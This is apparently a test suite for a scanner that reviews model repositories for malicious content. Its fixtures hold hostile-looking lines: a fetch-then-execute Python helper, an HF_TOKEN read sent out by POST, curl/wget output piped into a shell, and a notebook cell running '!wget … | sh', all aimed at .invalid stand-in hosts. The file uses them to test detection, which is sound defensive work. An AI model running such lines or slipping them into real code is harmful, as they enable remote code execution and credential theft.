// The May 2026 incident as the demo registry serves it, end to end through the content checks, plus the
// review-pipeline adapter and the offline `scan` wiring (real files on disk, one read each).
import { mkdtemp, mkdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { asRepoCheck, CONTENT_CHECKS } from '../../../src/checks/content/index.js';
import { analyzePython } from '../../../src/analyze/python/analyze.js';
import { tokenizeShell } from '../../../src/analyze/shell/tokenize.js';
import type { FilesCheckContext } from '../../../src/checks/types.js';
import { verdictOf } from '../../../src/core/findings.js';
import { sampleStoreSpec, SAMPLE } from '../../../src/registry/samples/index.js';
import { createReviewer } from '../../../src/review/reviewer.js';
import { findingsFor, notable, repoOf, summary } from './repo.js';

function filesOf(id: string): Record<string, string | Uint8Array> {
  const repo = sampleStoreSpec().repos.find((r) => r.id === id);
  if (!repo) throw new Error(`no sample ${id}`);
  const files: Record<string, string | Uint8Array> = {};
  for (const c of repo.commits) {
    for (const [path, spec] of Object.entries(c.files ?? {})) {
      const content = typeof spec === 'string' || spec instanceof Uint8Array ? spec : spec && 'content' in spec ? spec.content : undefined;
      if (typeof content === 'string' || content instanceof Uint8Array) files[path] = content;
    }
  }
  return files;
}

describe('the incident repository', () => {
  const files = filesOf(SAMPLE.typosquat);
  const found = findingsFor(files);

  test('the README instruction names the script, its line, and why it is critical', () => {
    const readme = String(files['README.md']);
    const line = readme.split('\n').findIndex((l) => l.includes('python scripts/preprocess.py --setup')) + 1;
    const f = found.find((x) => x.check === 'instructions.run-repo-script');
    expect(f).toMatchObject({ severity: 'critical', file: 'README.md', line, evidence: 'python scripts/preprocess.py --setup' });
    expect(f?.message).toContain('scripts/preprocess.py');
    expect(f?.message).toContain('code.download-exec');
  });

  test('the script is one download → chmod → exec flow, with the hidden URL decoded', () => {
    const script = String(files['scripts/preprocess.py']).split('\n');
    const lineOf = (s: string): number => script.findIndex((l) => l.includes(s)) + 1;
    const exec = found.find((x) => x.check === 'code.download-exec');
    expect(exec).toMatchObject({ severity: 'critical', file: 'scripts/preprocess.py', line: lineOf('subprocess.Popen') });
    expect(exec?.evidence).toContain('urlretrieve');
    expect(exec?.evidence).toContain('S_IEXEC');
    expect(found.find((x) => x.check === 'code.chmod-exec')).toMatchObject({ severity: 'critical', line: lineOf('os.chmod') });
    const obf = found.find((x) => x.check === 'code.obfuscation');
    expect(obf).toMatchObject({ severity: 'critical', line: lineOf('b64decode') });
    expect(obf?.message).toContain('https://cdn.open-oss.invalid/pf-runtime-linux-x64');
    expect(verdictOf(found)).toBe('rejected');
  });

  test('the clean sample produces nothing a reviewer must act on', () => {
    expect(summary(notable(findingsFor(filesOf(SAMPLE.clean))))).toBe('');
  });

  test('the trojaned .bin beside safetensors is noted, and judged by its own findings', () => {
    const f = findingsFor(filesOf(SAMPLE.trojanedBin)).filter((x) => x.check === 'layout.mixed-weights');
    expect(f).toHaveLength(1);
    expect(f[0]?.severity).toBe('info');
  });
});

describe('remote code', () => {
  const modeling = 'import math\nimport torch\nfrom torch import nn\nfrom .configuration_tiny import TinyConfig\nfrom .utils_tiny import rope\n\nclass TinyModel(nn.Module):\n    config_class = TinyConfig\n    def forward(self, x):\n        return rope(x) / math.sqrt(2)\n';
  const repo = {
    'config.json': JSON.stringify({ model_type: 'tiny', auto_map: { AutoConfig: 'configuration_tiny.TinyConfig', AutoModelForCausalLM: 'modeling_tiny.TinyModel' } }, null, 2),
    'configuration_tiny.py': 'from transformers import PretrainedConfig\n\nclass TinyConfig(PretrainedConfig):\n    model_type = "tiny"\n',
    'modeling_tiny.py': modeling,
    'utils_tiny.py': 'import torch\n\ndef rope(x):\n    return x\n'
  };

  test('a legitimate modeling file is a needs-review note naming the files, not a rejection', () => {
    const found = notable(findingsFor(repo));
    expect(found.map((f) => `${f.severity} ${f.check}`)).toEqual(['medium remote-code.auto-map']);
    expect(found[0]?.line).toBe(3);
    expect(found[0]?.message).toContain('modeling_tiny.py (AutoModelForCausalLM → TinyModel)');
    expect(found[0]?.message).toContain('utils_tiny.py');
  });

  test('a relatively imported helper that spawns processes is judged as remote code (high)', () => {
    const found = findingsFor({ ...repo, 'utils_tiny.py': 'import subprocess\n\ndef rope(x):\n    subprocess.run(["nvidia-smi"])\n    return x\n' });
    expect(found.find((f) => f.check === 'code.process-spawn')).toMatchObject({ severity: 'high', file: 'utils_tiny.py', line: 4 });
  });

  test('the same spawn in a standalone script only needs review', () => {
    const found = findingsFor({ 'tools/check_gpu.py': 'import subprocess\nsubprocess.run(["nvidia-smi"])\n' });
    expect(found.map((f) => `${f.severity} ${f.check}`)).toEqual(['medium code.process-spawn']);
  });
});

describe('python analysis details', () => {
  test('parse errors are blocking and say where', () => {
    const r = analyzePython('import os\ndef f(:\n    pass\n');
    expect(r.hits).toEqual([expect.objectContaining({ check: 'code.parse-error', severity: 'high', line: 2 })]);
  });

  test('README snippets tolerate fragments', () => {
    expect(analyzePython('model = AutoModel.from_pretrained(\n', { tolerateParseErrors: true }).hits).toEqual([]);
  });

  test('absurd nesting is reported as not examined instead of crashing', () => {
    const r = analyzePython(`x = ${'('.repeat(2000)}1${')'.repeat(2000)}\n`);
    expect(r.hits.some((h) => h.check === 'code.parse-error' && h.severity === 'high')).toBe(true);
  });

  test('a download helper marks its parameter; the caller runs it', () => {
    const src = 'import urllib.request, subprocess\n\ndef fetch(url, dest):\n    urllib.request.urlretrieve(url, dest)\n\ndef main():\n    target = "/tmp/tool"\n    fetch("https://x.invalid/tool", target)\n    subprocess.call(["sh", target])\n';
    const hit = analyzePython(src).hits.find((h) => h.check === 'code.download-exec');
    expect(hit).toMatchObject({ severity: 'critical', line: 9 });
  });

  test('an HF_TOKEN read plus a POST anywhere in the file is credential theft', () => {
    const src = 'import os, requests\nTOKEN = os.environ["HF_TOKEN"]\n\ndef report(stats):\n    requests.post("https://stats.invalid/r", json=stats)\n';
    const hits = analyzePython(src).hits;
    expect(hits.find((h) => h.check === 'code.credentials')).toMatchObject({ severity: 'critical', line: 2 });
    expect(hits.find((h) => h.check === 'code.network-send')).toMatchObject({ severity: 'critical', line: 5 });
  });
});

describe('shell tokenizer', () => {
  test('quotes, substitutions, pipes, separators, continuations and comments', () => {
    const lines = tokenizeShell('A="x y" curl -s "$U" | bash -s -- a\\\n b && echo \'#not\' ; ls # comment | sh\neval "$(wget -qO- u)"');
    expect(lines).toHaveLength(2);
    const [first, second] = lines;
    expect(first?.lines).toEqual([1, 2]);
    expect(first?.pipelines.map((p) => p.commands.map((c) => c.words.map((w) => w.text)))).toEqual([
      [['A=x y', 'curl', '-s', '$U'], ['bash', '-s', '--', 'a', 'b']],
      [['echo', '#not']],
      [['ls']]
    ]);
    expect(second?.pipelines[0]?.commands[0]?.words[1]?.subs).toEqual(['wget -qO- u']);
  });
});

describe('notebooks', () => {
  test('findings point at the JSON line and the cell', () => {
    const nb = JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [
      { cell_type: 'markdown', metadata: {}, source: ['# Demo\n'] },
      { cell_type: 'code', metadata: {}, outputs: [], execution_count: null, source: ['import torch\n', '!wget -qO- https://x.invalid/s | sh\n'] }
    ] }, null, 1);
    const line = nb.split('\n').findIndex((l) => l.includes('!wget')) + 1;
    const f = findingsFor({ 'demo.ipynb': nb }).find((x) => x.check === 'notebook.pipe-to-shell');
    expect(f).toMatchObject({ severity: 'critical', line });
    expect(f?.message).toContain('(cell 2)');
  });

  test('an unreadable notebook is not examined, and says so', () => {
    expect(findingsFor({ 'x.ipynb': '{"cells": [' })).toEqual([expect.objectContaining({ check: 'notebook.invalid', severity: 'high' })]);
  });
});

describe('wiring', () => {
  test('asRepoCheck maps the pipeline context (files, text) and shares one analysis per run', async () => {
    const files = filesOf(SAMPLE.typosquat);
    const repo = repoOf(files);
    const ctx = {
      files: repo.files.map((f) => ({ ...f, lfs: false, findings: [], complete: true })),
      text: (p: string) => repo.text(p)
    } as unknown as FilesCheckContext;
    const all = (await Promise.all(CONTENT_CHECKS.map(asRepoCheck).map((c) => c.run(ctx)))).flat();
    expect(all.some((f) => f.check === 'instructions.run-repo-script' && f.severity === 'critical')).toBe(true);
    expect(CONTENT_CHECKS.map((c) => c.id)).toEqual(['code', 'instructions', 'remote-code', 'layout']);
  });

  test('model-gate scan DIR runs the content checks offline from the single read', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'mg-content-'));
    try {
      const files = filesOf(SAMPLE.typosquat);
      for (const [path, content] of Object.entries(files)) {
        await mkdir(join(dir, 'repo', path, '..'), { recursive: true });
        await writeFile(join(dir, 'repo', path), content);
      }
      const { review: report } = await createReviewer().reviewLocal({ paths: ['repo'], cwd: dir });
      const run = report.findings.find((f) => f.check === 'instructions.run-repo-script');
      expect(run).toMatchObject({ severity: 'critical', file: 'repo/README.md' });
      expect(report.findings.some((f) => f.check === 'code.download-exec' && f.file === 'repo/scripts/preprocess.py')).toBe(true);
      expect(report.verdict).toBe('rejected');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
